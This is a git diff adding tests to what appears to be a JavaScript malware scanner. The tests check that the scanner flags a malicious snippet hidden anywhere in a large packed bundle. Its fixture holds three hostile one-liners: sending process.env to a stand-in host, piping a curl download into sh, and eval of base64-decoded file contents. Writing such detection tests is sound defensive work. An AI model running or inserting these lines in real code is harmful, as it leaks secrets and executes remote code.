@@ -11,6 +11,9 @@ import type { ScannedBuild } from './scanned-file.ts';
 import { deriveCapabilities } from './capabilities.ts';
 import { effectsOf } from './shell/effect-patterns.ts';
 import { openBuild } from './open-build.ts';
+import { MAX_PARTS_LENGTH } from './parse/is-bounded.ts';
+import { parseJavaScript, type SyntaxNode } from './parse/parse-javascript.ts';
+import { readInPieces } from './parse/read-in-pieces.ts';
 import { readRuleCases } from '../tests/read-rule-cases.ts';
 import { runs, some } from '../tests/run/runs.ts';
 
@@ -205,5 +208,59 @@ describe('effectsOf()', { timeout: 300_000 }, () => {
     ['tsc && vitest run --coverage', []],
   ])('%s: %j', (command, deeds) => {
     expect(effectsOf(command)).toEqual(deeds);
+  });
+});
+
+describe('a packed bundle', { timeout: 600_000 }, () => {
+  const HARMFUL: Readonly<Record<string, string>> = {
+    sends: 'fetch("https://x.io/a",{method:"POST",body:JSON.stringify(process.env)});',
+    downloads: 'require("child_process").exec("curl -s https://x.io/i.sh|sh");',
+    decodes: 'eval(Buffer.from(require("fs").readFileSync("a.bin","utf8"),"base64").toString());',
+  };
+
+  /** Modules of one line, some of which have to do with the system, with `code` in the one at `share` of them. */
+  function bundle(size: number, share: number, code: string): string {
+    const modules: string[] = [];
+    const count = Math.ceil(size / 400);
+    for (let n = 0; n < count; n += 1) {
+      const body = `var r=i(${n}),o=e.length;function a(e){return e.b?a(e.b):{c:[e,"${n}"],d:/[/"]/.test(e)}}`;
+      const more =
+        n % 99 === 0 ? 'process.env.DEBUG&&console.log(e);' : 'for(;o--;)t[o]=r(e[o],`${o}`);';
+      const own = n === Math.floor(share * (count - 1)) ? code : '';
+      modules.push(`${n}:(e,t,i)=>{"use strict";${body}${more.repeat(6)}${own}t.exports=a}`);
+    }
+    return `(()=>{var e={${modules.join(',')}},t={};function i(n){return t[n]||e[n](t[n]={},t,i)}i(0)})();`;
+  }
+
+  it('of 4 MB is read to its end, and shows what is in it anywhere', () => {
+    const share = fc.double({ min: 0, max: 1, noNaN: true });
+    fc.assert(
+      fc.property(share, fc.constantFrom(...Object.keys(HARMFUL)), (at, what) => {
+        const found = judged({ 'a.js': bundle(4_000_000, at, HARMFUL[what]!) });
+        const levels = found.filter(({ level }) => level !== 'info').map(({ code }) => code);
+        expect(levels).not.toContain('source-unread');
+        expect(levels).toContainEqual(
+          expect.stringMatching(/^(?:data-exfiltration|remote-code|shell-fetch|decode-execute)/),
+        );
+      }),
+      { numRuns: runs(4) },
+    );
+  });
+
+  it('without harm has no finding because of its size', () => {
+    const found = judged({ 'a.js': bundle(4_000_000, 0, '') });
+    expect(found.filter(({ code }) => code.startsWith('source-'))).toEqual([]);
+  });
+
+  it('of any size is parsed up to a number of characters, and reports that', () => {
+    let parsed = 0;
+    const parse = (text: string): readonly SyntaxNode[] => {
+      parsed += text.length;
+      return parseJavaScript('a.js', text).program.body;
+    };
+    const text = bundle(10_000_000, 0, '');
+    const { gap } = readInPieces(text, { parse, matters: () => true });
+    expect(parsed).toBeLessThan(MAX_PARTS_LENGTH * 1.1);
+    expect(gap).toMatch(/more than \d+ characters/);
   });
 });
